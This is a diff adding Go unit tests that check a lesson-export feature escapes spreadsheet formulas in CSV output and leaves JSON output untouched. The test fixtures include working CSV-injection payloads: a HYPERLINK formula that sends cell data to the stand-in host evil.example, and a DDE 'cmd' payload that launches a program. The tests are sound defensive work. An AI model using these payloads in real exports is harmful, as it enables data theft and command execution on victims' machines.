@@ -162,3 +162,52 @@ webinar, 2026-01-11 15:00 UTC
 		t.Errorf("unknown format: %v", err)
 	}
 }
+
+func TestCSVCellNeutralisesFormulas(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, `'=HYPERLINK("https://evil.example/?"&A1,"click")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"Plain answer = fine", "Plain answer = fine"},
+		{" =1+1", " =1+1"}, // spreadsheets do not evaluate a leading space
+		{"", ""},
+		{"42", "42"},
+		{"2026-01-10T15:00:00Z", "2026-01-10T15:00:00Z"},
+		{"Ñandú", "Ñandú"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			if got := csvCell(tt.in); got != tt.want {
+				t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+// A formula typed as an answer or a title comes out of the CSV export as
+// text, while the JSON export keeps it as typed.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	lessons := []store.Lesson{{SessionID: 1, SessionTitle: "=1+2", SessionKind: "webinar", UserID: "U1",
+		Question: "@question", Answer: `=HYPERLINK("https://evil.example/?"&A1,"click")`}}
+	var buf bytes.Buffer
+	if err := WriteLessons(&buf, "csv", lessons); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := records[1]; r[1] != "'=1+2" || r[6] != "'@question" || r[7] != `'=HYPERLINK("https://evil.example/?"&A1,"click")` {
+		t.Errorf("record %q", r)
+	}
+	buf.Reset()
+	if err := WriteLessons(&buf, "json", lessons); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(buf.String(), `"answer": "=HYPERLINK(`) {
+		t.Errorf("JSON changed the answer:\n%s", buf.String())
+	}
+}
